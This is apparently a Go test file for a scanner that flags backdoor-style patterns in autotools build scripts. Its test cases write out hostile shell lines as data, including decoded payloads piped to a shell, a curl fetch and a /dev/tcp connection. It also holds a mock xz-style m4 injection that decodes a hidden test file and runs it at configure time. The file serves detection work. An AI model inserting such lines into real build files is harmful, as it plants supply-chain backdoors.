package autotools

import (
	"slices"
	"strings"
	"testing"
)

func signalRules(sigs []Signal) []string {
	var out []string
	for _, s := range sigs {
		out = append(out, s.Rule)
	}
	return out
}

func TestScanBuildScriptRules(t *testing.T) {
	tests := []struct {
		name string
		line string
		want []string // rule ids; nil = no signal
	}{
		// grep -a over the tree
		{"grep -a recursive", `f=$(grep -arl 'MARK' $srcdir 2>/dev/null)`, []string{RuleGrepBinaryTree}},
		{"grep --text srcdir", `grep --text -l '##x##' "${srcdir}"/tests/*`, []string{RuleGrepBinaryTree}},
		{"GREP var -a -R", `$GREP -a -R needle .`, []string{RuleGrepBinaryTree}},
		{"grep -a single file", `grep -a pattern conftest.out`, nil},
		{"grep -- -Wattributes", `AS_IF([grep -- -Wattributes conftest.err],`, nil},
		{"grep -r without -a", `grep -rl foo $srcdir`, nil},
		// tr swaps
		{"tr tab swap", `m=$(echo x | tr "\t \-_" " \t_\-")`, []string{RuleTrSwap}},
		{"tr rot13", `decode="tr 'N-ZA-Mn-za-m' 'A-Za-z'"`, []string{RuleTrSwap}},
		{"tr case", `as_tr_cpp="tr 'abcdefghijklmnopqrstuvwxyz' 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'"`, nil},
		{"tr classes", `tr '[:upper:]' '[:lower:]'`, nil},
		{"tr delete", `tr -d '\r'`, nil},
		{"tr m4 quoted", `tr '[[a-z]]' '[[A-Z]]'`, nil},
		// carving
		{"head chain", `(head -c +1024 >/dev/null; head -c 2048) < f`, []string{RuleCarving}},
		{"dd skip", `dd if=f bs=1 skip=33 count=99 2>/dev/null | tail -c +5`, []string{RuleCarving}},
		{"single head -c", `head -c 16 /dev/urandom > seed`, nil},
		// decoding into a shell
		{"xz to sh", `cat f | xz -dc 2>/dev/null | sh`, []string{RuleDecodeToShell}},
		{"gunzip to SHELL", `gunzip < blob.gz | $SHELL`, []string{RuleDecodeToShell}},
		{"decoder in variable", `sed "r\n" $f | eval $map | $dec -d 2>/dev/null`, []string{RuleDecodeToShell, RuleSedCat}},
		{"eval of decompression", `eval "$(lzma -d < payload)"`, []string{RuleDecodeToShell, RuleEvalAssembled}},
		{"gzip -dc to file", `gzip -dc foo.tar.gz | tar xf -`, nil},
		{"or eval", `test -d "$as_dir" || eval $as_mkdir_p || exit 1`, nil},
		{"automake dist eval", `tardir=$(distdir) && $(am__tar) | eval GZIP= gzip $(GZIP_ENV) -c >$(distdir).tar.gz`, nil},
		// eval of assembled strings
		{"eval tr", "eval `echo $x | tr 'a-m' 'n-z'`", []string{RuleEvalAssembled}},
		{"eval indirection", `eval ac_val=\$$ac_var`, nil},
		{"eval sed", "if eval \"test `echo $verpair | sed 's,:, -gt ,'`\"; then", nil},
		// sed cat
		{"sed r newline", `sed 'r\n' $file > out`, []string{RuleSedCat}},
		{"sed normal", `sed 's/a/b/' file`, nil},
		// base64
		{"base64 to bash", `echo "$blob" | base64 -d | bash`, []string{RuleBase64ToShell}},
		{"xxd to eval", `eval "$(xxd -r -p <<< "$hex")"`, []string{RuleBase64ToShell, RuleEvalAssembled}},
		{"base64 decode to file", `base64 -d data.b64 > data.bin`, nil},
		// network
		{"curl", `curl -fsSL https://example.invalid/x.sh -o x.sh`, []string{RuleNetworkFetch}},
		{"dev tcp", `exec 3<>/dev/tcp/203.0.113.1/80`, []string{RuleNetworkFetch}},
		{"libcurl check", `AC_CHECK_LIB([curl], [curl_easy_init])`, nil},
		// blobs
		{"base64 blob", `p="` + strings.Repeat("QmFzZTY0IGJsb2IgaGVyZSwgMTIzNDU2Nzg5MA", 6) + `"`, []string{RuleEncodedBlob}},
		{"long word list", `SUBDIRS = ` + strings.Repeat("lib src doc tests po man ", 20), nil},
		// comments never run
		{"comment", `# cat f | xz -dc | sh`, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := signalRules(ScanBuildScript("x.sh", []byte("#!/bin/sh\n"+tt.line+"\n")))
			slices.Sort(got)
			want := slices.Clone(tt.want)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("rules = %v, want %v", got, want)
			}
		})
	}
}

func TestScanEvidenceAndContinuations(t *testing.T) {
	script := "#!/bin/sh\necho start\ncat data \\\n  | xz -d \\\n  | sh\n"
	sigs := ScanBuildScript("tests/run.sh", []byte(script))
	if len(sigs) != 1 || sigs[0].Rule != RuleDecodeToShell {
		t.Fatalf("signals = %+v", sigs)
	}
	if len(sigs[0].Evidence) != 1 || !strings.HasPrefix(sigs[0].Evidence[0], "line 3: cat data") {
		t.Errorf("evidence = %q, want the joined line 3", sigs[0].Evidence)
	}
	if !strings.HasPrefix(sigs[0].Message, "tests/run.sh: ") {
		t.Errorf("message %q lacks the path", sigs[0].Message)
	}
}

func TestScanCarvingAcrossLines(t *testing.T) {
	script := "head -c 100 >/dev/null\nhead -c 200\ntail -c +9\ndd bs=1 skip=4\n"
	if got := signalRules(ScanBuildScript("s.sh", []byte(script))); !slices.Equal(got, []string{RuleCarving}) {
		t.Errorf("rules = %v, want carving", got)
	}
}

// injectedM4 is an xz-style injection written for these tests (it is not the
// real CVE-2024-3094 code): it claims a far higher serial so aclocal prefers
// it, finds a marked file among the test data with grep -a, undoes a tr
// substitution cipher and pipes the decompressed result into the shell at
// configure time.
const injectedM4 = `# build-to-host.m4 serial 30
dnl Copyright (C) 2023-2024 Free Software Foundation, Inc.
dnl This file is free software; the Free Software Foundation
dnl gives unlimited permission to copy and/or distribute it.

AC_DEFUN([gl_BUILD_TO_HOST],
[
  AC_REQUIRE([AC_CANONICAL_BUILD])
  AC_REQUIRE([AC_CANONICAL_HOST])
  gl_step_1=yes
  gl_step_2=yes
  gl_step_3=yes
  AC_CONFIG_COMMANDS([build-to-host], [
    bth_cand=` + "`" + `grep -arl 'QQ7zz-marker' $srcdir/tests 2>/dev/null` + "`" + `
    bth_rot="tr 'N-ZA-Mn-za-m' 'A-Za-z'"
    if test -n "$bth_cand"; then
      cat $bth_cand | eval $bth_rot | xz -dc 2>/dev/null | $SHELL
    fi
  ], [srcdir=$srcdir])
])
`

func TestScanInjectedM4(t *testing.T) {
	sigs := ScanBuildScript("m4/build-to-host.m4", []byte(injectedM4))
	got := signalRules(sigs)
	for _, want := range []string{RuleGrepBinaryTree, RuleTrSwap, RuleDecodeToShell} {
		if !slices.Contains(got, want) {
			t.Errorf("rules %v lack %s", got, want)
		}
	}
	for _, s := range sigs {
		if len(s.Evidence) == 0 || !strings.HasPrefix(s.Evidence[0], "line ") {
			t.Errorf("%s evidence = %q", s.Rule, s.Evidence)
		}
	}
}
